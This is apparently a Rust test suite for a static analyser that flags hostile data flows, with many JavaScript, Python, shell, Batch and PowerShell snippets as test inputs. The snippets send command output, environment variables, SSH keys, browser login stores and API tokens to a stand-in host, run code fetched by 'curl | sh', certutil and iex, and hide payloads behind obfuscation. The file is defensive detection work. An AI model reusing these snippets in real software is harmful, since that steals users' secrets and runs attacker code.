//! What is handed to somebody else before it is called, sent or executed: threads, loops, queues, loggers, handlers of
//! errors, streams, programs that are written to. And what of it says nothing of harm.

use super::*;

fn is_told(language: Language, code: &str, rule: &str) -> bool {
    rules(language, code).contains(&rule)
}

#[test]
fn functions_that_are_handed_over_are_called_with_what_they_are_given() {
    const SENDS: &[&str] = &[
        "threading.Thread(target=requests.post, args=(U,), kwargs={'data': X}).start()",
        "threading.Timer(5, requests.post, [U], {'data': X}).start()",
        "atexit.register(requests.post, U, data=X)",
        "ThreadPoolExecutor().submit(requests.post, U, data=X)",
        "functools.partial(requests.post, data=X)(U)",
        "operator.methodcaller('post', U, data=X)(requests)",
        "operator.attrgetter('post')(requests)(U, data=X)",
        "sched.scheduler().enter(5, 1, requests.post, (U, X))",
        "weakref.finalize(f, requests.post, U, data=X)",
        "asyncio.run(asyncio.to_thread(requests.post, U, data=X))",
        "with contextlib.ExitStack() as s:\n    s.callback(requests.post, U, data=X)",
        "q = queue.Queue()\ndef w():\n    requests.post(U, data=q.get())\nthreading.Thread(target=w).start()\nq.put(1)\nq.put(X)\nq.put(2)",
        "h = logging.handlers.HTTPHandler('h.invalid', '/x')\nlogging.getLogger('a').addHandler(h)\nlogging.getLogger('a').error(X)",
        "ServerProxy('https://h.invalid').a.b(X)",
        "websocket.WebSocketApp('wss://h.invalid', on_open=lambda w: w.send(X)).run_forever()",
    ];
    for code in SENDS {
        let code = format!(
            "import asyncio, atexit, contextlib, functools, logging, logging.handlers, operator, queue, requests, sched, subprocess, threading, weakref, websocket\n\
             from concurrent.futures import ThreadPoolExecutor\nfrom xmlrpc.client import ServerProxy\n\
             U = 'https://h.invalid/x'\nX = subprocess.getoutput('ls')\ndef f(): pass\n{code}"
        );
        assert!(is_told(Language::Python, &code, "flow-output-sent"), "{code}");
    }
    // What is called besides comes from what it was asked of.
    let code = "import os, requests\nrequests.get('https://h.invalid').apply(lambda line: exec(line))";
    assert!(is_told(Language::Python, code, "flow-remote-code"));
}

#[test]
fn what_arrives_is_executed_in_any_form() {
    for code in [
        "async def m():\n    async with websockets.connect('wss://h.invalid') as w:\n        async for x in w:\n            exec(x)\nasyncio.run(m())",
        "s = socket.create_connection(('h.invalid', 80))\nfor line in s.makefile():\n    exec(line)",
        "@exec\n@lambda f: requests.get('https://h.invalid').text\ndef q(): pass",
        "subprocess.run([sys.executable, '-'], input=requests.get('https://h.invalid').content)",
        "p = subprocess.Popen(['bash'], stdin=-1)\np.communicate(requests.get('https://h.invalid').content)",
    ] {
        let code = format!("import asyncio, requests, socket, subprocess, sys, websockets\n{code}");
        let seen = rules(Language::Python, &code);
        assert!(seen.iter().any(|r| ["flow-remote-code", "flow-reverse-shell"].contains(r)), "{code}: {seen:?}");
    }
    for code in [
        "(async () => { try { await require('axios').get('https://h.invalid') } catch (e) { new Function(e.response.data)() } })()",
        "fetch('https://h.invalid').then(r => r.text()).then(t => { const p = require('child_process').spawn('node', ['-']); p.stdin.write(t) })",
        "chrome.storage.local.set({ p: await (await fetch('https://h.invalid')).text() });\n\
         const { p } = await chrome.storage.local.get('p');\n\
         chrome.scripting.executeScript({ args: [p], func: (c) => { const s = document.createElement('script'); s.textContent = c } })",
    ] {
        assert!(is_told(Language::JavaScript, code, "flow-remote-code"), "{code}");
    }
}

#[test]
fn streams_and_inputs_carry_what_is_written_to_them() {
    for code in [
        "const r = require('https').request('https://h.invalid', { method: 'POST' }); require('stream').Readable.from([X]).pipe(r)",
        "require('stream').pipeline(require('stream').Readable.from([X]), require('https').request('https://h.invalid', { method: 'POST' }), () => {})",
        "const p = require('child_process').spawn('curl', ['-d', '@-', 'https://h.invalid']); p.stdin.write(X); p.stdin.end()",
        "require('child_process').execSync('curl -d @- https://h.invalid', { input: X })",
        "const { Client } = require('undici'); new Client('https://h.invalid').request({ path: '/', method: 'POST', body: X })",
        "require('request')('https://h.invalid', { method: 'POST', form: { X } }, () => {})",
        "setTimeout(fetch, 10, 'https://h.invalid', { method: 'POST', body: X })",
        "const f = ({ u = 'https://h.invalid', d } = {}) => fetch(u, { method: 'POST', body: d }); f({ d: X })",
    ] {
        let code = format!("const X = require('child_process').execSync('ls').toString();\n{code}");
        assert!(is_told(Language::JavaScript, &code, "flow-output-sent"), "{code}");
    }
}

#[test]
fn tokens_that_command_lines_print_are_held_to_their_keepers() {
    let sends = |host: &str| format!("curl -d \"$(gh auth token)\" https://{host}/x");
    assert!(is_told(Language::Shell, &sends("h.invalid"), "flow-cloud-key-sent"));
    assert!(rules(Language::Shell, &sends("api.github.com")).is_empty());
    // Files of the user's are not what GitHub's own command line prints, wherever they go.
    let code = "import os, requests, subprocess\n\
                k = open(os.path.expanduser('~/.ssh/id_rsa')).read() + subprocess.getoutput('gh auth token')\n\
                requests.post('https://api.github.com/repos/a/b/issues', data=k)";
    assert!(is_told(Language::Python, code, "flow-credentials-sent"), "{:?}", rules(Language::Python, code));
}

#[test]
fn keys_of_services_are_held_to_their_service() {
    use crate::model::Severity;
    let id = "flow-service-key-sent";
    let calls = |more: &str, then: &str| {
        format!(
            "exports.push = async (repo) => {{ const t = process.env.GITHUB_TOKEN;\n{more}\n\
             fetch('https://stats.h.invalid/c?t=' + t){then} }}"
        )
    };
    let home = "await fetch('https://api.github.com/repos/' + repo, { headers: { Authorization: 'token ' + t } });";
    let told = |code: &str| super::honest::weight(Language::JavaScript, code, id);
    assert_eq!(told(&calls(home, ".catch(() => {})")), Some(Severity::Critical));
    assert_eq!(told(&calls("", ".catch(() => {})")), Some(Severity::Medium));
    // Who waits for the answer speaks with a service of its own.
    assert_eq!(told(&calls(home, ".then(r => r.json())")), None);
    assert_eq!(told(&calls(home, ".catch(() => {})").replace("stats.h.invalid", "api.github.com")), None);
    assert_eq!(told(&calls(home, ".catch(() => {})").replace("GITHUB_TOKEN", "OWN_TOKEN")), None);
    let loads = "import os, requests\nrequests.post('https://h.invalid/v', json={'k': os.getenv('OPENAI_API_KEY')})";
    assert!(is_told(Language::Python, loads, id), "{:?}", rules(Language::Python, loads));
}

#[test]
fn lines_with_gaps_and_ranges_are_followed() {
    let batch = "set \"d=%localappdata%\\u\"\n\
                 cmd /c \"certutil -urlcache -f http://192.0.2.9/u.exe \"%d%\\u.exe\" >nul & \"%d%\\u.exe\"\"";
    assert!(is_told(Language::Batch, batch, "flow-download-run"), "{:?}", rules(Language::Batch, batch));
    for code in [
        "$s = 'xei|x/dilavni.h//:sptth mri'; iex (-join $s[-1..-$s.Length])",
        "$x = New-Object -ComObject MSXML2.XMLHTTP; $x.open('GET', 'https://h.invalid', $false); $x.send(); iex $x.responseText",
    ] {
        assert!(
            is_told(Language::PowerShell, code, "flow-remote-code"),
            "{code}: {:?}",
            rules(Language::PowerShell, code)
        );
    }
}

#[test]
fn what_says_nothing_of_harm_is_not_told() {
    // Nothing can be read out of a digest.
    let code = "import hashlib, requests, subprocess\nrequests.post('https://h.invalid', data=hashlib.sha256(subprocess.check_output('ls')).hexdigest())";
    assert!(!is_told(Language::Python, code, "flow-output-sent"));
    // Options of a log-in are no address that tells something.
    let code = "const { Pool } = require('pg'); new Pool({ host: 'h.invalid', password: process.env.DB_PASSWORD })";
    assert!(rules(Language::JavaScript, code).iter().all(|r| *r == "flow-calls-home"));
    // A page that shows what it was answered; and an element of it that is no script.
    let code = "const browser = 1, storage = 2; const e = document.createElement('div'); fetch('https://h.invalid').then(r => r.text()).then(t => { e.innerHTML = t })";
    assert!(!is_told(Language::JavaScript, code, "flow-remote-code"));
}

#[test]
fn what_a_table_has_for_a_system_is_any_of_it() {
    let javascript = |value: &str, go: &str| {
        let code = format!(
            "const os = require('os'), fs = require('fs');\nconst home = os.homedir();\n\
             const P = {{ win32: {value}, linux: [] }};\n\
             function up(f) {{ fetch('https://h.invalid/u', {{ method: 'POST', body: fs.readFileSync(f) }}); }}\n{go}\n"
        );
        is_told(Language::JavaScript, &code, "flow-stores-sent")
    };
    let store = "home + '/AppData/Local/Google/Chrome/User Data/Default/Login Data'";
    let all = format!("[{store}]");
    assert!(javascript(&all, "for (const f of P[process.platform] || []) up(f);"));
    assert!(javascript(&format!("[['chrome', {store}]]"), "for (const [n, f] of P[os.platform()]) up(f);"));
    assert!(!javascript(&all, "for (const f of P['linux']) up(f);"));
    let python = "import os, sys, requests\n\
        P = {'win32': [os.path.expanduser('~/.config/google-chrome/Default/Login Data')], 'linux': []}\n\
        for f in P.get(sys.platform, []):\n    requests.post('https://h.invalid/u', data=open(f, 'rb').read())\n";
    assert!(is_told(Language::Python, python, "flow-stores-sent"));
}

#[test]
fn what_generators_of_javascript_hand_out_is_gone_through() {
    let code = |body: &str| {
        format!(
            "const os = require('os'), fs = require('fs'), path = require('path');\n\
             function* files(root) {{ {body} }}\n\
             for (const f of files(path.join(os.homedir(), '.config/google-chrome')))\n\
             fetch('https://h.invalid/u', {{ method: 'POST', body: fs.readFileSync(f) }});\n"
        )
    };
    let told = |body: &str| is_told(Language::JavaScript, &code(body), "flow-stores-sent");
    assert!(told("yield path.join(root, 'Default', 'Login Data');"));
    assert!(told("for (const n of ['Login Data']) yield path.join(root, 'Default', n);"));
    assert!(told(
        "let all = []; try { all = fs.readdirSync(root); } catch { return; } for (const p of all) yield path.join(root, p, 'Login Data');"
    ));
    assert!(!told("yield 'README.md';"));
}

#[test]
fn methods_that_are_asked_for_by_name_are_methods() {
    for code in [
        "u = __import__('urllib.request')\ngetattr(getattr(u, 'request'), 'urlopen')('https://h.invalid/', data=D)",
        "getattr(__import__('urllib.request'), 'request').urlopen('https://h.invalid/', getattr(D, 'strip')())",
        "__import__('urllib.request', fromlist=['x']).urlopen('https://h.invalid/', D)",
        "__import__('urllib.request', None, None, ['x']).urlopen('https://h.invalid/', D)",
        "import importlib, base64\nimportlib.import_module('urllib.request').urlopen('https://h.invalid/', getattr(base64, 'b64encode')(getattr(D, 'strip')()))",
    ] {
        let code = format!("import os, json\nD = json.dumps(dict(os.environ)).encode()\n{code}\n");
        assert!(is_told(Language::Python, &code, "flow-environment-sent"), "{code}");
    }
    let hidden = "import marshal, hmac, hashlib\ndef d(k, b):\n    return bytes(x ^ y for x, y in zip(b, hmac.new(k, b'n', hashlib.sha256).digest()))\n\
        code = marshal.loads(d(b'key', b'\\x01\\x02\\x03'))\nexec(code, globals())\n";
    assert!(is_told(Language::Python, hidden, "flow-decoded-code"));
}

#[test]
fn nothing_is_hidden_behind_what_compilers_write() {
    let run = "require('child_process').exec('curl https://h.invalid/x | sh')";
    for code in [
        // A helper of the script's own, and a list that is empty for who reads.
        "function __values(l) { return own(l); } for (var a = __values([]), b = a.next(); !b.done; b = a.next()) { RUN; }",
        "for (var a = [][Symbol.iterator](), b; !(c = (b = a.next()).done); c = true) { RUN; }",
        "function __read(x) { RUN; return []; } var y = __read([1]);",
        "function __assign(a) { RUN; return a; } var y = __assign({}, { a: 1 });",
        // Somebody's own function is handed what looks like states.
        "function go(t, f) { RUN; } go(this, function (s) { switch (s.label) { case 0: return [2]; } });",
        "function go(a, b, c, f) { RUN; } go(1, 2, 3, function () { return g(this, function (s) { switch (s.label) { case 0: return [2]; } }); });",
        // What stands for another system, or for none.
        "({ sunos: 'ls' })[process.platform] || RUN;",
        "new Function(\"return 'a' + RUN\")();",
    ] {
        let code = code.replace("RUN", &run.replace('\'', "`"));
        assert!(is_told(Language::JavaScript, &code, "flow-remote-code"), "{code}");
    }
    let handed = "const net = require('net'); const c = net.connect(4444, '192.0.2.7'); \
        c.on('data', function (s) { switch (s.label) { case 0: require('child_process').exec(s.toString()); return [4, 1]; } });";
    assert!(is_told(Language::JavaScript, handed, "flow-remote-command"));
    let python = "import sys, os\nos.system({'sunos5': 'ls'}.get(sys.platform, 'curl https://h.invalid/x | sh'))\n";
    assert!(is_told(Language::Python, python, "flow-remote-code"));
    let python = "import os\nos.system({'a': 'ls'}.get(os.environ['X'], 'curl https://h.invalid/x | sh'))\n";
    assert!(is_told(Language::Python, python, "flow-remote-code"));
}

#[test]
fn helpers_within_helpers_are_gone_through_once() {
    let mut inner = "fetch('https://h.invalid/x', { method: 'POST', body: JSON.stringify(process.env) })".to_owned();
    for _ in 0..40 {
        inner = format!("jsx('a', _objectSpread(_objectSpread({{}}, p), {{}}, {{ children: {inner} }}))");
    }
    assert!(is_told(Language::JavaScript, &format!("var x = {inner};"), "flow-environment-sent"));
    let mut inner = "b".to_owned();
    for _ in 0..40 {
        inner = format!("getattr(a, getattr({inner}, f())())");
    }
    let code = format!("import os, requests\n{inner}()\nrequests.post('https://h.invalid/x', data=dict(os.environ))\n");
    assert!(is_told(Language::Python, &code, "flow-environment-sent"));
}
